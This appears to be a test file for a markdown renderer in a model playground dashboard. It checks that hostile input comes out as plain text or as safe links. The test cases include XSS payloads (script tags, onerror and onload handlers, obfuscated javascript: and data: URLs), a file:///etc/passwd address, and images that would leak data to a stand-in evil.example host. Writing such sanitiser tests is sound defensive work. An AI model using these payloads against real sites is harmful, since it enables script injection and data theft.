import { describe, expect, test } from "bun:test";
import type { VNode } from "preact";
import { Markdown, webAddress } from "../../src/dashboard/playground/markdown.tsx";
import { Random } from "../sim/random.ts";

describe("Markdown of a model", () => {
  test.each([
    ["**a** *b* ~~c~~ `d`", ["p", "strong", "em", "del", "code"]],
    ["# One\n\n### Three", ["h3", "h4"]],
    ["- [x] done\n- [ ] open", ["ul", "li", "li"]],
    ["3. three\n4. four", ["ol", "li", "li"]],
    ["> quoted", ["blockquote", "p"]],
    [
      "| a | b |\n|---|--:|\n| 1 | 2 |",
      ["section", "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"],
    ],
    ["[text](https://example.com/)", ["p", "a"]],
    ["a  \nb\n\n---", ["p", "br", "hr"]],
  ])("%p becomes %p", (text, types) => {
    expect(elementsIn(text).map(({ type }) => type)).toEqual(["div", ...types]);
  });

  test("a code block keeps its text, with a button that copies it", () => {
    const code = "<b>&amp;</b>\n  [x](javascript:alert(1))";
    const elements = elementsIn(`\`\`\`html\n${code}\n\`\`\``);
    expect(elements.map(({ type }) => type)).toEqual([
      "div",
      "figure",
      "figcaption",
      "CopyButton",
      "section",
      "pre",
    ]);
    expect(elements.find(({ type }) => type === "CopyButton")!.props.value).toBe(code);
    expect(textOf(Markdown({ text: `\`\`\`\n${code}\n\`\`\`` }))).toContain(code);
  });

  test.each([
    ["<script>alert(1)</script>", "<script>alert(1)</script>"],
    ["a <img src=x onerror=alert(1)> b", "a <img src=x onerror=alert(1)> b"],
    ["&lt;b&gt; &#60;i&#62; &#x3c;u&#x3E; &unknown; &amp;amp;", "<b> <i> <u> &unknown; &amp;"],
    ["\\<b\\> &constructor; &#0;", "<b> &constructor; \ufffd"],
  ])("%p is shown as the text %p", (text, shown) => {
    expect(textOf(Markdown({ text })).trim()).toBe(shown);
    expect(hostileIn(text)).toEqual([]);
  });

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://example.com/x",
    "//example.com/x",
    "/admin",
    "#recover=or-rec-x",
    "?q",
    "",
  ])("the address %p is no link", (href) => {
    for (const text of [`[t](<${href}>)`, `![t](<${href}>)`, `[t][1]\n\n[1]: <${href}>`, `<${href}>`]) {
      expect([text, elementsIn(text).filter(({ type }) => type === "a")]).toEqual([text, []]);
    }
  });

  test("a link to the web opens elsewhere and tells nothing of this page", () => {
    const [link] = elementsIn("see https://example.com/a?b&c").filter(({ type }) => type === "a");
    expect(link!.props).toMatchObject({
      href: "https://example.com/a?b&c",
      target: "_blank",
      rel: "noopener noreferrer nofollow",
    });
    expect(webAddress("mailto:a@example.com")).toBe("mailto:a@example.com");
  });

  test("an image is a link, and no image is loaded; inside a link it is text", () => {
    const text =
      "![plan](https://evil.example/?q=secret) [![b](https://evil.example/c)](https://example.com/)";
    const elements = elementsIn(text);
    expect(elements.map(({ type }) => type)).toEqual(["div", "p", "a", "a"]);
    expect(textOf(Markdown({ text }))).toBe("plan b");
  });

  test("what is too long, or nested too deeply, is shown as it came", () => {
    for (const text of ["*a* ".repeat(5_000), `${"> ".repeat(3_000)}x`, `${"- ".repeat(3_000)}x`]) {
      expect(hostileIn(text)).toEqual([]);
      expect(textOf(Markdown({ text })).length).toBeGreaterThan(0);
    }
    expect(elementsIn("*a* ".repeat(5_000))).toHaveLength(1);
  });

  test("whatever is put together from hostile pieces, only known elements with known properties come out", () => {
    const random = new Random(11);
    for (let round = 0; round < 4_000; round++) {
      let text = "";
      const pieces = 1 + random.below(14);
      for (let piece = 0; piece < pieces; piece++) text += PIECES[random.below(PIECES.length)]!;
      expect([text, hostileIn(text)]).toEqual([text, []]);
    }
  });
});

const PIECES = [
  "<script>",
  "</script>",
  "<img src=https://evil.example/x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=//evil.example>",
  "<!--",
  "-->",
  "<a href='javascript:alert(1)'>",
  "[a](javascript:alert(1))",
  "![a](https://evil.example/pixel)",
  "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[a]: javascript:alert(1)\n",
  "[a]",
  "[a](https://example.com 'onmouseover=alert(1)')",
  "<https://example.com/><javascript:alert(1)>",
  "&#106;avascript:",
  "&lt;script&gt;",
  "](",
  "[",
  "![",
  ")",
  "`",
  "```\n",
  "~~~js onload=x\n",
  "**",
  "_",
  "~~",
  "> ",
  "\n- ",
  "\n\n",
  "\n",
  "1. ",
  "|a|b|\n|-|-|\n",
  "# ",
  "\\",
  "\t",
  "\u0000",
  "text",
];

interface Element {
  readonly type: string;
  readonly props: Readonly<Record<string, unknown>>;
}

/** The elements that come of it, from the top; components that are no part of it by their names. */
const elementsIn = (text: string): Element[] => [...walk(Markdown({ text }))];

function* walk(node: unknown): Generator<Element> {
  if (Array.isArray(node)) for (const child of node) yield* walk(child);
  if (!isVNode(node)) return;
  const { type, props } = node;
  if (typeof type === "string") {
    yield { type, props };
    yield* walk(props.children);
  } else if (type.name === "CopyButton") yield { type: type.name, props };
  else yield* walk(rendered(node));
}

function textOf(node: unknown): string {
  if (Array.isArray(node)) return node.map(textOf).join("");
  if (typeof node === "string" || typeof node === "number") return String(node);
  if (!isVNode(node)) return "";
  if (typeof node.type === "string") return textOf(node.props.children);
  return node.type.name === "CopyButton" ? "" : textOf(rendered(node));
}

type Any = VNode<Record<string, unknown>>;
const isVNode = (node: unknown): node is Any => typeof node === "object" && node !== null && "props" in node;

/** What is not an element that is allowed, with properties that are. */
const hostileIn = (text: string): Element[] =>
  elementsIn(text).filter(({ type, props }) => {
    const allowed = ALLOWED[type];
    if (allowed === undefined) return true;
    if (Object.keys(props).some((name) => name !== "children" && !allowed.includes(name))) return true;
    return (
      type === "a" &&
      (props.rel !== "noopener noreferrer nofollow" || !/^(https?|mailto):/.test(String(props.href)))
    );
  });

const PLAIN = "p h3 h4 ul li blockquote hr br strong em del code span table thead tbody tr".split(" ");

const ALLOWED: Readonly<Record<string, readonly string[] | undefined>> = {
  ...Object.fromEntries(PLAIN.map((type) => [type, []])),
  div: ["class"],
  ol: ["start"],
  a: ["href", "title", "target", "rel"],
  section: ["class", "tabIndex", "aria-label"],
  th: ["scope", "class"],
  td: ["class"],
  figure: ["class"],
  figcaption: ["class"],
  pre: ["ref"],
  CopyButton: ["label", "value", "shown"],
};

/** A component of the file itself, rendered as Preact would. */
function rendered(node: Any): unknown {
  return (node.type as (props: object) => unknown)(node.props);
}
